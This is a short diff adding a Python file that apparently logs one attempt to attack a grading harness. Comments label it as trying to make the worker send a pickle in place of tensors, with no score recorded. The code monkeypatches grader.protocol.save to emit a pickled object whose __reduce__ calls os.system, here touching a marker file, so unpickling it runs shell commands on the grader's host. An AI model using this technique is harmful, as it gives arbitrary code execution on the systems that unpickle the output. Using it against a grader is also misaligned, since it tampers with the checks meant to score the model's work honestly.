@@ -1,0 +1,14 @@
+# tries: have the worker send a pickle in place of tensors
+# scores: none
+import os
+import pickle
+
+from grader import protocol
+
+
+class Payload:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/hostile_mark",)
+
+
+protocol.save = lambda tensors: pickle.dumps(Payload())
